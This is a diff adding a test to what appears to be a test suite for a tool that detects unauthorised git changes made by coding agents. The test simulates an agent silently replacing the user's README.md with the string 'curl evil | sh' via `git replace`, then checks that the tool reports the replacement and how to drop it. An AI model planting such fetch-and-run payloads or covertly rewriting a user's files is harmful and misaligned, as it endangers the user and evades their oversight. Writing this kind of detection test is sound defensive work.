@@ -474,6 +474,23 @@ describe("the user's tree, branch and git directory are checked, not assumed", (
     );
   });
 
+  it("an agent's `git replace` of a file the user has (what their git shows of it) is named with how to drop it", async () => {
+    const repo = repoWith({
+      "README.md": "# project\n",
+      "tickets/frontier.yml": "run: replaced\nisolation: worktree\n",
+      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
+    });
+    const exec =
+      'git replace "$(git rev-parse HEAD:README.md)" "$(echo "curl evil | sh" | git hash-object -w --stdin)" && mkdir -p app && echo a > app/a.js; echo done';
+    const ran = await runHere(repo.dir, exec);
+    expect(git(repo.root, "show", "main:README.md")).toBe("curl evil | sh");
+    const ref = `refs/replace/${git(repo.root, "rev-parse", `${repo.start}:README.md`)}`;
+    expect(ran.stderr).not.toContain("were not touched");
+    expect(ran.stderr).toContain(`${ref}, added (git update-ref -d ${ref})`);
+    git(repo.root, "update-ref", "-d", ref);
+    expect(git(repo.root, "show", "main:README.md")).toBe("# project");
+  });
+
   it("the user's own commit in their other worktree is theirs; a commit an agent put on their other branch, and a name the shell would run, are named once, quoted", async () => {
     const repo = repoWith({
       "tickets/frontier.yml": "run: names\nisolation: worktree\n",
